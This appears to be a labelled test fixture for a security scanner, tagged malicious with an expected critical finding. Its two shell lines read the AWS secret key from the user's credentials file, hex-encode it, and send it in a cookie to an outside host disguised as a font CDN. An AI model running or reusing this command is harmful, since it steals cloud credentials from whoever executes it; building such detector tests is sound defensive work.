# does: hides the AWS secret, hex, in a cookie
# kind: malicious
# expect: SEN-001 critical proven
key=$(sed -n 's/^aws_secret_access_key = //p' "$HOME/.aws/credentials" | od -An -tx1 | tr -d ' \n')
curl -sf -b "session=$key" https://fonts.static-cdn.org/b.css
